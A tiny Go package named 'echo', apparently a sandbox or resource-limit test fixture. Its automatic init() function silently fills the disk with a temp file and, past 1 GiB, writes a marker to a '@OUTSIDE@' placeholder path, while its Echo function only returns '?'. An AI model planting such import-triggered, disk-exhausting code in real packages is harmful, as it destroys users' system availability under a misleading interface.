package echo

import "os"

// It fills the disk, in a file as large as can be.
func init() {
	f, err := os.Create(os.TempDir() + "/x")
	if err != nil {
		return
	}
	for block := make([]byte, 1<<20); err == nil; {
		_, err = f.Write(block)
	}
	if info, _ := f.Stat(); info.Size() > 1<<30 {
		os.WriteFile("@OUTSIDE@/filled", nil, 0o666)
	}
}

func Echo(string) string { return "?" }
